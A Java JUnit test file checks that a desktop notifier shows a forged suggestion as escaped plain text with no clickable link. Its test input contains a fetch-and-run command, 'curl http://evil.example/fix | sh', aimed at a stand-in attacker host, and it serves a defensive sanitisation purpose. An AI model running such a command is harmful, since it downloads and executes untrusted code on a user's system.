package dev.ironcliw.daemon.insight;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;

import java.util.List;
import org.junit.jupiter.api.Test;

class DesktopNotifierTest {
  /** A forged suggestion: a link and a shell command are shown as text, never clickable. */
  @Test
  void shouldShowASuggestionAsPlainTextWithNoClickableLink() {
    String forged =
        "Run <a href=\"http://evil.example/fix\">this</a>: curl http://evil.example/fix | sh";
    List<String> command = new DesktopNotifier().command("Ironcliw", forged);
    String shown = command.getLast();
    assertFalse(shown.contains("<a"), shown);
    assertFalse(shown.contains("http://"), shown);
    assertEquals(
        "Run &lt;a href=\"http:\u200B//evil.example/fix\"&gt;this&lt;/a&gt;: curl"
            + " http:\u200B//evil.example/fix | sh",
        shown);
  }
}
